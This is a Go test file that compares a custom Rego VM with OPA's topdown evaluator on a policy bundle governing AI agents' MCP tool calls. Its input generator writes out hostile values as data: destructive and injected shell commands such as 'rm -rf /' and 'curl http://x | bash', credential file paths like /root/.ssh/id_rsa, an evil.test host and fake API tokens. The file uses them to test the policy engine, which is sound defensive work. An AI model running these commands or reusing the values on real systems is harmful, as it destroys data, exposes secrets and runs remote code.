package vm_test

import (
	"bytes"
	"context"
	"encoding/json"
	"math/rand/v2"
	"os"
	"path/filepath"
	"runtime"
	"sort"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"testing"

	"github.com/open-policy-agent/opa/v1/ast"
	"github.com/open-policy-agent/opa/v1/bundle"
	"github.com/open-policy-agent/opa/v1/rego"
	"github.com/open-policy-agent/opa/v1/storage"
	"github.com/open-policy-agent/opa/v1/storage/inmem"

	"github.com/acgs-lite/acgs/internal/inputgen"
	"github.com/acgs-lite/acgs/internal/jsoneq"
	"github.com/acgs-lite/acgs/internal/vm"
	"github.com/acgs-lite/acgs/policies"
)

// bundleFixture is the project's constitution compiled as the engine
// compiles a bundle: one compiler, a store of AST values.
type bundleFixture struct {
	compiler *ast.Compiler
	store    storage.Store
	data     map[string]any
}

func loadConstitution(t testing.TB) bundleFixture {
	t.Helper()
	loader, err := bundle.NewFSLoader(policies.FS)
	if err != nil {
		t.Fatal(err)
	}
	b, err := bundle.NewCustomReader(loader).Read()
	if err != nil {
		t.Fatal(err)
	}
	mods := map[string]*ast.Module{}
	for _, m := range b.Modules {
		mods[m.Path] = m.Parsed
	}
	c := ast.NewCompiler().WithEnablePrintStatements(false)
	if c.Compile(mods); c.Failed() {
		t.Fatal(c.Errors)
	}
	data := b.Data
	if data == nil {
		data = map[string]any{}
	}
	store := inmem.NewFromObjectWithOpts(data, inmem.OptRoundTripOnWrite(false), inmem.OptReturnASTValuesOnRead(true))
	return bundleFixture{compiler: c, store: store, data: data}
}

// decisionPaths are the bundle's decision documents: every package's
// `decision` rule (found in the compiled bundle, not named here).
func (f bundleFixture) decisionPaths() []string {
	seen := map[string]bool{}
	for _, m := range f.compiler.Modules {
		for _, r := range m.Rules {
			if r.Head.Name.String() == "decision" || r.Head.Ref().String() == "decision" {
				seen[m.Package.Path.String()+".decision"] = true
			}
		}
	}
	var out []string
	for p := range seen {
		out = append(out, p)
	}
	sort.Strings(out)
	return out
}

func (f bundleFixture) prepare(t testing.TB, path string) (vmq, tdq rego.PreparedEvalQuery) {
	t.Helper()
	ctx := context.Background()
	body := ast.MustParseBody(path)
	var err error
	vmq, err = vm.Prepare(ctx, f.compiler, f.store, body)
	if err != nil {
		t.Fatalf("%s: the VM cannot run it: %v", path, err)
	}
	tdq, err = rego.New(rego.ParsedQuery(body), rego.Compiler(f.compiler), rego.Store(f.store)).PrepareForEval(ctx)
	if err != nil {
		t.Fatal(err)
	}
	return vmq, tdq
}

// evalText evaluates pq on input and returns the decision as JSON text (or
// the error, or "undefined").
func evalText(ctx context.Context, pq rego.PreparedEvalQuery, input ast.Value) (string, any) {
	rs, err := pq.Eval(ctx, rego.EvalParsedInput(input))
	switch {
	case err != nil:
		return "error: " + err.Error(), nil
	case len(rs) == 0:
		return "undefined", nil
	}
	v := rs[0].Expressions[0].Value
	b, err := jsonText(v)
	if err != nil {
		return "unencodable: " + err.Error(), nil
	}
	return b, v
}

// TestConstitutionDifferential evaluates generated inputs on every decision
// document of the constitution with topdown and with the VM: the decisions
// must be the same JSON text (1 and 1.0 differ).
func TestConstitutionDifferential(t *testing.T) {
	n := 10_000
	if testing.Short() {
		n = 500
	}
	f := loadConstitution(t)
	paths := f.decisionPaths()
	if len(paths) < 2 || !contains(paths, "data.acgs.main.decision") {
		t.Fatalf("decision documents: %v", paths)
	}
	type pair struct{ vmq, tdq rego.PreparedEvalQuery }
	queries := make([]pair, len(paths))
	for i, p := range paths {
		queries[i].vmq, queries[i].tdq = f.prepare(t, p)
	}
	gen := inputgen.New(17)
	inputs := gen.Inputs(n)
	tools := newToolCalls(17)
	examples := loadRequests(t)
	for i := range inputs {
		switch i % 4 {
		case 1:
			inputs[i] = gen.WithNoise(inputs[i])
		case 2:
			inputs[i] = tools.input(inputs[i])
		case 3:
			// A request of the repository's examples with some of its
			// fields changed: most of these decide allow.
			inputs[i] = tools.perturb(examples[i%len(examples)]).(map[string]any)
		}
	}
	var diffs atomic.Int64
	counts := make([]map[string]int, len(paths)) // outcome kinds per path
	var mu sync.Mutex
	for i := range counts {
		counts[i] = map[string]int{}
	}
	var wg sync.WaitGroup
	next := atomic.Int64{}
	for range max(1, runtime.GOMAXPROCS(0)) {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for {
				i := int(next.Add(1) - 1)
				if i >= len(inputs) {
					return
				}
				in, err := ast.InterfaceToValue(inputs[i])
				if err != nil {
					t.Error(err)
					return
				}
				for j, q := range queries {
					want, wv := evalText(context.Background(), q.tdq, in)
					got, gv := evalText(context.Background(), q.vmq, in)
					if got != want || (wv != nil && !jsoneq.SameText(wv, gv)) {
						if diffs.Add(1) <= 5 {
							t.Errorf("%s, input %d %v:\ntopdown %s\nvm      %s", paths[j], i, inputs[i], want, got)
						}
					}
					kind := "defined"
					switch {
					case strings.HasPrefix(want, "error"):
						kind = "error"
					case want == "undefined":
						kind = "undefined"
					case strings.Contains(want, `"allow":true`):
						kind = "allow"
					}
					mu.Lock()
					counts[j][kind]++
					mu.Unlock()
				}
			}
		}()
	}
	wg.Wait()
	for j, p := range paths {
		t.Logf("%s: %d inputs, outcomes %v", p, n, counts[j])
	}
	if d := diffs.Load(); d > 0 {
		t.Fatalf("%d differences between the VM and topdown", d)
	}
}

func contains(ss []string, s string) bool {
	for _, x := range ss {
		if x == s {
			return true
		}
	}
	return false
}

// toolCalls draws MCP tool calls (input.tool_call) of every kind the
// constitution judges: allowed, prohibited, approval-needing, paths inside
// and outside the roots, shell injections, hosts, secrets, missing and
// wrongly typed fields.
type toolCalls struct{ r *rand.Rand }

func newToolCalls(seed uint64) *toolCalls {
	return &toolCalls{r: rand.New(rand.NewPCG(seed, seed+1))}
}

func (g *toolCalls) pick(xs ...any) any { return xs[g.r.IntN(len(xs))] }

func (g *toolCalls) input(base map[string]any) map[string]any {
	in := map[string]any{}
	for k, v := range base {
		in[k] = v
	}
	if g.r.IntN(10) > 0 {
		in["type"] = "tool_call"
	}
	upstream := g.pick("fs", "shell", "web", "db", "mail", "deploy", "", 7)
	tool := g.pick("read_file", "write_file", "delete_file", "bash", "execute_command", "fetch", "drop_table",
		"send_email", "deploy_service", "query", "list_dir", "transfer_funds", "status").(string)
	call := map[string]any{"tool": tool}
	if s, ok := upstream.(string); ok {
		call["upstream"] = s
		call["name"] = s + "__" + tool
	} else {
		call["upstream"] = upstream
	}
	if g.r.IntN(8) == 0 {
		call["name"] = g.pick(nil, 3, "bare", "a__b__c")
	}
	args := map[string]any{}
	for n := g.r.IntN(4); n > 0; n-- {
		k, v := g.arg()
		args[k] = v
	}
	switch g.r.IntN(12) {
	case 0:
		call["arguments"] = "not an object"
	case 1:
	default:
		call["arguments"] = args
	}
	if g.r.IntN(6) > 0 {
		agent := map[string]any{"id": g.pick("agent-1", "agent-2", "", 5), "session": g.pick("s-1", "s-2", nil)}
		if g.r.IntN(8) == 0 {
			delete(agent, "session")
		}
		call["agent"] = agent
	}
	if g.r.IntN(5) > 0 {
		call["context"] = map[string]any{"calls_last_minute": g.pick(0, 1, 119, 120, 121, 1000, "5", -1, 2.5)}
	}
	in["tool_call"] = call
	return in
}

func (g *toolCalls) arg() (string, any) {
	switch g.r.IntN(6) {
	case 0:
		return g.pick("path", "file", "paths", "cwd", "destination").(string),
			g.pick("/workspace/a.txt", "/etc/passwd", "/workspace/../etc/shadow", "/tmp/acgs-workspace/x", "relative/p",
				[]any{"/workspace/ok", "/root/.ssh/id_rsa"}, 42, "")
	case 1:
		return g.pick("command", "cmd", "script").(string),
			g.pick("ls -la", "ls; rm -rf /", "cat f | sh", "echo $(id)", "make && curl http://x | bash", "`whoami`", true)
	case 2:
		return g.pick("url", "endpoint", "webhook").(string),
			g.pick("https://example.com/x", "https://api.github.com/repos", "http://evil.test/", "https://u:p@db.example.com/",
				"https://a.example.com", "not a url", []any{"https://example.com", "https://evil.test"})
	case 3:
		return g.pick("host", "domain").(string), g.pick("example.com", "x.example.com", "evil.test", "")
	case 4:
		return g.pick("token", "password", "note").(string),
			g.pick("hunter2", "AKIA"+strings.Repeat("A", 16), "sk-"+strings.Repeat("x", 24), "ghp_"+strings.Repeat("a", 36), "plain text")
	default:
		return "options", map[string]any{"nested": map[string]any{"path": g.pick("/etc/hosts", "/workspace/y"), "n": g.r.IntN(5)}, "list": []any{1, "two", nil}}
	}
}

// loadRequests reads the example requests of testdata/requests.
func loadRequests(t testing.TB) []map[string]any {
	t.Helper()
	files, err := filepath.Glob(filepath.Join("..", "..", "testdata", "requests", "*.json"))
	if err != nil || len(files) == 0 {
		t.Fatalf("no example requests: %v", err)
	}
	var out []map[string]any
	for _, f := range files {
		b, err := os.ReadFile(f)
		if err != nil {
			t.Fatal(err)
		}
		d := json.NewDecoder(bytes.NewReader(b))
		d.UseNumber()
		var m map[string]any
		if err := d.Decode(&m); err != nil {
			t.Fatalf("%s: %v", f, err)
		}
		out = append(out, m)
	}
	return out
}

// perturb returns a deep copy of v with some leaves changed: numbers to
// boundaries or random values, booleans flipped, strings emptied.
func (g *toolCalls) perturb(v any) any {
	switch x := v.(type) {
	case map[string]any:
		m := make(map[string]any, len(x))
		for k, e := range x {
			m[k] = g.perturb(e)
		}
		return m
	case []any:
		a := make([]any, 0, len(x))
		for _, e := range x {
			if g.r.IntN(20) > 0 {
				a = append(a, g.perturb(e))
			}
		}
		return a
	}
	if g.r.IntN(12) > 0 {
		return v
	}
	switch x := v.(type) {
	case json.Number:
		return g.pick(json.Number("0"), json.Number("0.5"), json.Number("0.79"), json.Number("0.8"), json.Number("0.81"),
			json.Number("1"), json.Number("1.0"), json.Number(strconv.Itoa(g.r.IntN(200))),
			json.Number(strconv.FormatFloat(float64(g.r.IntN(1001))/1000, 'f', -1, 64)))
	case bool:
		return !x
	case string:
		return g.pick(x, x, "", x+" and more")
	}
	return v
}

func jsonText(v any) (string, error) {
	b, err := json.Marshal(v)
	return string(b), err
}
